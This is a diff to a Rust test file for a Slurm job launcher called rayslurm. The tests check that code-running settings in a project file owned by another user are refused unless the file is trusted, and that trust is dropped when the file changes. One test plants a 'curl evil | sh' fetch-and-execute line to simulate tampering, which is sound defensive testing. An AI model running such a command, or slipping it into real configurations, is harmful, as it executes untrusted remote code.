@@ -8,9 +8,8 @@
 
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
-use std::process::Output;
 
-use crate::harness::{rayslurm, shim, text, transcript};
+use crate::harness::{Run, rayslurm, shim};
 
 const OTHER_UID: u32 = 65534;
 
@@ -50,15 +49,16 @@ impl Project {
         set_mode(&self.file(), 0o664);
     }
 
-    fn rayslurm(&self, args: &[&str]) -> Output {
+    /// rayslurm in the project directory, with the user's own state directory.
+    fn rayslurm(&self, args: &[&str]) -> Run {
         rayslurm(args)
             .cwd(&self.dir())
             .shims(&self.root.path().join("shims"))
             .env("RAYSLURM_STATE_DIR", self.root.path().join("state"))
-            .output()
     }
 
-    fn launch(&self, dry_run: bool) -> Output {
+    /// `launch` of a run that does nothing (with `--dry-run`: writes only the script).
+    fn launch(&self, dry_run: bool) -> Run {
         let mut args = vec!["launch", "--exp-name", "x", "--command", "true"];
         if dry_run {
             args.push("--dry-run");
@@ -98,13 +98,14 @@ const GUARDED: &str =
 fn site_keys_from_another_users_file_are_used_with_a_notice() {
     let p = Project::new();
     p.write_as_other("[launch]\npartition = \"gpu\"\naccount = \"proj1\"\ntime = \"1:00:00\"\n");
-    let out = p.launch(true);
-    let (stdout, stderr) = text(&out);
-    assert_eq!(out.status.code(), Some(0), "{stderr}");
-    assert!(stdout.contains("#SBATCH --partition=gpu\n"), "{stdout}");
-    assert!(stdout.contains("#SBATCH --account=proj1\n"), "{stdout}");
+    let ran = p
+        .launch(true)
+        .expect_status(0)
+        .expect_stdout_contains("#SBATCH --partition=gpu\n")
+        .expect_stdout_contains("#SBATCH --account=proj1\n")
+        .run();
     assert_eq!(
-        p.filter(stderr.lines().next().unwrap()),
+        p.filter(ran.stderr.lines().next().unwrap()),
         "note: using settings from `[ROOT]/proj/rayslurm.toml` (owned by uid 65534)"
     );
 }
@@ -113,15 +114,8 @@ fn site_keys_from_another_users_file_are_used_with_a_notice() {
 fn keys_that_run_code_from_another_users_file_are_refused_and_nothing_is_submitted() {
     let p = Project::new();
     p.write_as_other(GUARDED);
-    let out = p.launch(false);
-    insta::assert_snapshot!(
-        "refused_project_file",
-        p.filter(&transcript(
-            &["launch", "--exp-name", "x", "--command", "true"],
-            &out
-        ))
-    );
-    assert_eq!(out.status.code(), Some(2));
+    let ran = p.launch(false).expect_status(2).run();
+    insta::assert_snapshot!("refused_project_file", p.filter(&ran.transcript()));
     assert!(!p.submitted(), "sbatch ran");
     assert_eq!(p.written(), Vec::<String>::new());
 }
@@ -131,43 +125,37 @@ fn a_trusted_file_is_used_until_it_changes() {
     let p = Project::new();
     p.write_as_other(GUARDED);
     let file = p.file().display().to_string();
-    let out = p.rayslurm(&["trust", &file]);
-    let (_, stderr) = text(&out);
-    assert_eq!(out.status.code(), Some(0), "{stderr}");
-    assert!(
-        stderr.contains("load_env, ray_auth will be used"),
-        "{stderr}"
-    );
-
-    let out = p.launch(true);
-    let (stdout, stderr) = text(&out);
-    assert_eq!(out.status.code(), Some(0), "{stderr}");
-    assert!(stdout.contains("touch /tmp/planted-by-other"), "{stdout}");
+    p.rayslurm(&["trust", &file])
+        .expect_status(0)
+        .expect_stderr_contains("load_env, ray_auth will be used")
+        .run();
+    p.launch(true)
+        .expect_status(0)
+        .expect_stdout_contains("touch /tmp/planted-by-other")
+        .run();
 
     // Another member adds a line: trusted no more.
     p.write_as_other(&GUARDED.replace("touch", "curl evil | sh; touch"));
-    let out = p.launch(false);
-    let (_, stderr) = text(&out);
-    assert_eq!(out.status.code(), Some(2), "{stderr}");
-    assert!(stderr.contains("changed since you trusted it"), "{stderr}");
-    assert!(stderr.contains("uid 65534"), "{stderr}");
+    p.launch(false)
+        .expect_status(2)
+        .expect_stderr_contains("changed since you trusted it")
+        .expect_stderr_contains("uid 65534")
+        .run();
     assert!(!p.submitted(), "sbatch ran");
 
     // Trusted again, then revoked.
-    assert_eq!(p.rayslurm(&["trust", &file]).status.code(), Some(0));
-    assert_eq!(p.launch(true).status.code(), Some(0));
-    let out = p.rayslurm(&["trust", "--list"]);
-    let (stdout, _) = text(&out);
-    assert!(stdout.starts_with(&format!("{file}\t")), "{stdout}");
-    assert_eq!(
-        p.rayslurm(&["trust", "--revoke", &file]).status.code(),
-        Some(0)
-    );
-    assert_eq!(p.launch(true).status.code(), Some(2));
-    assert_eq!(
-        p.rayslurm(&["trust", "--revoke", &file]).status.code(),
-        Some(2)
-    );
+    p.rayslurm(&["trust", &file]).expect_status(0).run();
+    p.launch(true).expect_status(0).run();
+    p.rayslurm(&["trust", "--list"])
+        .expect_stdout_starts_with(&format!("{file}\t"))
+        .run();
+    p.rayslurm(&["trust", "--revoke", &file])
+        .expect_status(0)
+        .run();
+    p.launch(true).expect_status(2).run();
+    p.rayslurm(&["trust", "--revoke", &file])
+        .expect_status(2)
+        .run();
 }
 
 /// The user's own file needs no trust where no one else can replace it, and needs it in a
@@ -185,31 +173,24 @@ fn the_users_own_file_needs_trust_only_where_others_can_replace_it() {
         std::fs::write(p.file(), GUARDED).unwrap();
         set_mode(&p.file(), file_mode);
         set_mode(&p.dir(), dir_mode);
-        let out = p.launch(true);
-        let (_, stderr) = text(&out);
-        let case = format!("file {file_mode:o} dir {dir_mode:o}");
-        assert_eq!(
-            out.status.code(),
-            Some(if accepted { 0 } else { 2 }),
-            "{case}: {stderr}"
-        );
-        assert!(stderr.contains("rayslurm.toml"), "{case}: {stderr}");
+        p.launch(true)
+            .case(format!("file {file_mode:o} dir {dir_mode:o}"))
+            .expect_status(if accepted { 0 } else { 2 })
+            .expect_stderr_contains("rayslurm.toml")
+            .run();
     }
 }
 
 #[test]
 fn trust_errors_name_the_file() {
     let p = Project::new();
-    let out = p.rayslurm(&["trust", "missing.toml"]);
-    insta::assert_snapshot!(
-        "trust_missing_file",
-        p.filter(&transcript(&["trust", "missing.toml"], &out))
-    );
+    let ran = p.rayslurm(&["trust", "missing.toml"]).run();
+    insta::assert_snapshot!("trust_missing_file", p.filter(&ran.transcript()));
     p.write_as_other("[launch]\nparition = \"x\"\n");
-    let out = p.rayslurm(&["trust", "rayslurm.toml"]);
-    let (_, stderr) = text(&out);
-    assert_eq!(out.status.code(), Some(2), "{stderr}");
-    assert!(stderr.contains("parition"), "{stderr}");
+    p.rayslurm(&["trust", "rayslurm.toml"])
+        .expect_status(2)
+        .expect_stderr_contains("parition")
+        .run();
     assert!(
         !p.root.path().join("state/trust").exists()
             || std::fs::read_dir(p.root.path().join("state/trust"))
@@ -217,11 +198,8 @@ fn trust_errors_name_the_file() {
                 .next()
                 .is_none()
     );
-    let out = p.rayslurm(&["trust", "--revoke", "rayslurm.toml"]);
-    insta::assert_snapshot!(
-        "trust_revoke_untrusted",
-        p.filter(&transcript(&["trust", "--revoke", "rayslurm.toml"], &out))
-    );
+    let ran = p.rayslurm(&["trust", "--revoke", "rayslurm.toml"]).run();
+    insta::assert_snapshot!("trust_revoke_untrusted", p.filter(&ran.transcript()));
 }
 
 /// A project file named by `RAYSLURM_CONFIG` is the user's choice: used whole, no notice.
@@ -229,7 +207,7 @@ fn trust_errors_name_the_file() {
 fn a_project_file_named_by_rayslurm_config_is_trusted() {
     let p = Project::new();
     p.write_as_other(GUARDED);
-    let out = rayslurm([
+    rayslurm([
         "launch",
         "--exp-name",
         "x",
@@ -240,9 +218,8 @@ fn a_project_file_named_by_rayslurm_config_is_trusted() {
     .cwd(&p.dir())
     .env("RAYSLURM_STATE_DIR", p.root.path().join("state"))
     .env("RAYSLURM_CONFIG", "./rayslurm.toml")
-    .output();
-    let (stdout, stderr) = text(&out);
-    assert_eq!(out.status.code(), Some(0), "{stderr}");
-    assert!(stdout.contains("touch /tmp/planted-by-other"), "{stdout}");
-    assert!(!stderr.contains("note: using settings"), "{stderr}");
+    .expect_status(0)
+    .expect_stdout_contains("touch /tmp/planted-by-other")
+    .expect_stderr_lacks("note: using settings")
+    .run();
 }
